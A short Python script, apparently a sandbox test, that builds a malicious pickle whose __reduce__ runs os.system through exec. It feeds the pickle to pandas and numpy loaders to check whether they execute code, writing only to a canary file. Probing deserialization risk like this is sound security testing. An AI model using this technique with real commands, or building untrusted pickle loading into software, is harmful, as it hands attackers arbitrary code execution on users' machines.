# Has pandas and numpy read pickles that run code, from memory and from files.
# breach: write
import io, pickle

import numpy as np
import pandas as pd


class Payload:
    def __reduce__(self):
        return (exec, ("import os; os.system('echo x > @CANARY@/pwned')",))


data = pickle.dumps(Payload())
kept = io.BytesIO()
try:
    np.save(kept, np.array([Payload()], dtype=object), allow_pickle=True)
except Exception as error:
    print(error)
for read in (
    lambda: pd.read_pickle(io.BytesIO(data)),
    lambda: np.load(io.BytesIO(kept.getvalue()), allow_pickle=True),
    lambda: np.load(io.BytesIO(data), allow_pickle=True),
    lambda: pd.compat.pickle_compat.loads(data),
):
    try:
        read()
    except Exception as error:
        print(type(error).__name__, error)
